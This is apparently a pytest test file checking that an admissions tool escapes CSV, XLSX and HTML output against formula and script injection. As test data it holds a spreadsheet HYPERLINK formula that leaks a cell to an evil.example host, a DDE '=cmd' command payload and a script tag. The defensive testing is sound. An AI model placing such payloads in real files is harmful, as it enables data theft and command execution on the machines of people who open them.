"""Outputs never carry a live formula: CSV cells escaped with a leading ', XLSX cells typed strings, HTML escaped."""

from __future__ import annotations

import shutil
import subprocess
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from admissions.io.write import write_csv
from admissions.io.xlsx import write_xlsx
from admissions.io.formulas import FORMULA_STARTS, escape_cell, escape_frame, unescape_cell, unescape_frame
from admissions.queries.explain import explain_text
from admissions.reports.language import texts

from .conftest import (
    HOSTILE_HTML_SCHOOL,
    HOSTILE_ORIENTATION,
    HOSTILE_PROGRAMME,
    HOSTILE_SCHOOL,
    HOSTILE_STUDENT,
    TAB_STUDENT,
    read_text_csv,
)


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"),
    ("+46701234567", "'+46701234567"),
    ("-123", "'-123"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tS1", "'\tS1"),
    ("\rS1", "'\rS1"),
    ("'=1+1", "''=1+1"),  # already one apostrophe: one more, so the escape can be undone exactly
    ("''-2", "'''-2"),
    ("'s-Hertogenbosch", "'s-Hertogenbosch"),  # an apostrophe before an ordinary letter is left alone
    ("S000123", "S000123"),
    ("Malmö", "Malmö"),
    ("1-2", "1-2"),
    ("", ""),
])
def test_escape_cell_and_its_inverse(cell, written):
    assert escape_cell(cell) == written
    assert unescape_cell(written) == cell


@given(st.text())
def test_unescape_gives_back_every_text_exactly(text):
    written = escape_cell(text)
    assert unescape_cell(written) == text
    assert not written.startswith(FORMULA_STARTS)


def test_write_csv_escapes_text_and_leaves_numbers(tmp_path):
    frame = pd.DataFrame({
        "student_id": ["-123", "=1+1", "S1", None],
        "score": [-3.5, 2.0, np.nan, 1.25],
        "rank": pd.array([-1, 2, None, 4], dtype="Int64"),
        "name": pd.array(["@x", "+y", "ok", "\tz"], dtype="str"),
        "flag": [True, False, True, False],
    })
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    assert path.read_text(encoding="utf-8") == (
        "student_id,score,rank,name,flag\n"
        "'-123,-3.5,-1,'@x,true\n"
        "'=1+1,2,2,'+y,false\n"
        "S1,,,ok,true\n"
        ",1.25,4,'\tz,false\n"
    )
    back = unescape_frame(read_text_csv(path))
    assert back["student_id"].tolist() == ["-123", "=1+1", "S1", ""]
    assert back["name"].tolist() == ["@x", "+y", "ok", "\tz"]
    assert back["score"].tolist() == ["-3.5", "2", "", "1.25"]


def test_escape_frame_returns_the_same_frame_when_nothing_needs_escaping():
    frame = pd.DataFrame({"a": ["x", "y"], "b": [-1, 2]})
    assert escape_frame(frame) is frame


def test_match_escapes_every_hostile_cell_in_the_csv_files(hostile_match):
    _, out = hostile_match
    raw = (out / "programmes.csv").read_text(encoding="utf-8")
    assert ("'@MAL-LAT-NA-NAT,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
            "Lund,EK,'+SUM(1;1),") in raw  # the region's first offer: Drottning Blankas Gymnasieskola Lund, EK
    placements = (out / "placements.csv").read_text(encoding="utf-8").splitlines()
    assert placements[1].startswith("'-0042,")
    assert placements[3].startswith("'\tS000003,")
    for name in ("placements", "applications", "programmes", "dimensioning", "flows"):
        frame = read_text_csv(out / f"{name}.csv")
        for column in frame.columns:
            cells = frame[column]
            assert not cells.str.startswith(("=", "+", "@", "\t", "\r")).any(), (name, column)
            # "-" starts only numbers (a negative figure), never text
            minus = cells[cells.str.startswith("-")]
            assert pd.to_numeric(minus, errors="coerce").notna().all(), (name, column, minus.tolist())
    programmes = unescape_frame(read_text_csv(out / "programmes.csv"))
    assert programmes.loc[0, ["programme_id", "school", "orientation"]].tolist() == [
        HOSTILE_PROGRAMME, HOSTILE_SCHOOL, HOSTILE_ORIENTATION]


def test_xlsx_with_a_hostile_school_reads_back_as_strings(hostile_match):
    _, out = hostile_match
    _ = texts("sv")
    workbook = openpyxl.load_workbook(out / "report.xlsx")
    sheet = workbook[_("sheet.programmes")]
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    for name, value in (("programme_id", HOSTILE_PROGRAMME), ("school", HOSTILE_SCHOOL),
                        ("orientation", HOSTILE_ORIENTATION)):
        assert row[_(f"col.{name}")].value == value, name
        assert row[_(f"col.{name}")].data_type == "s", name
    assert row[_("col.seats")].data_type == "n"
    # No cell of the workbook is a formula, and the XML has no <f> element.
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in line), sheet.title
    with zipfile.ZipFile(out / "report.xlsx") as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_write_xlsx_types_every_formula_like_text_as_a_string(tmp_path):
    texts = ["=1+1", "+1", "-1", "@A1", "\t1", "=cmd|' /C calc'!A0", "\r1"]
    frame = pd.DataFrame({"text": texts, "number": [-1.5] * len(texts)})
    write_xlsx({"s": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    # XML reads a carriage return in text as a line feed: "\r1" comes back as "\n1", still a string.
    expected = [(t.replace("\r", "\n"), "s") for t in texts]
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == expected
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-1.5, "n")] * len(texts)


def test_html_report_escapes_school_names(hostile_match):
    _, out = hostile_match
    page = (out / "report.html").read_text(encoding="utf-8")
    assert HOSTILE_HTML_SCHOOL not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_explain_reads_escaped_ids_back_exactly(hostile_match):
    _, out = hostile_match
    text = explain_text(out, HOSTILE_STUDENT)
    assert text.startswith(f"Student {HOSTILE_STUDENT} is admitted to 56639389-EK (EK at Katedralskolan in Lund), their 2nd choice.")
    assert explain_text(out, TAB_STUDENT).startswith(f"Student {TAB_STUDENT} ")


def libreoffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(libreoffice() is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_hostile_cells_as_text(hostile_match, tmp_path):
    """LibreOffice opens programmes.csv and report.xlsx without running a formula: the cells stay text."""
    _, out = hostile_match
    shutil.copy(out / "programmes.csv", tmp_path / "programmes.csv")
    converted = {}
    for source, target, options in (
        (out / "report.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2", []),
        (tmp_path / "programmes.csv", "xlsx", ["--infilter=CSV:44,34,76,1"]),
    ):
        folder = tmp_path / source.suffix[1:]
        subprocess.run(
            [libreoffice(), "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", *options,
             "--convert-to", target, "--outdir", str(folder), str(source)],
            check=True, capture_output=True, timeout=120,
        )
        converted[source.suffix] = next(folder.iterdir())
    # report.xlsx: the programmes sheet (after the cover) as CSV: the hostile texts exactly, not evaluated.
    first = pd.read_csv(converted[".xlsx"], dtype=str, keep_default_na=False)
    assert first.loc[0, ["Utbildnings-id", "Skola", "Inriktning"]].tolist() == [
        HOSTILE_PROGRAMME, HOSTILE_SCHOOL, HOSTILE_ORIENTATION]
    # programmes.csv opened as a spreadsheet: text cells with the apostrophe, no formula.
    sheet = openpyxl.load_workbook(converted[".csv"])["programmes"]
    cells = {c.value: c for c in sheet[1]}
    row = {name: sheet.cell(row=2, column=cells[name].column) for name in ("programme_id", "school", "orientation")}
    assert {name: (c.value, c.data_type) for name, c in row.items()} == {
        "programme_id": ("'" + HOSTILE_PROGRAMME, "s"),
        "school": ("'" + HOSTILE_SCHOOL, "s"),
        "orientation": ("'" + HOSTILE_ORIENTATION, "s"),
    }
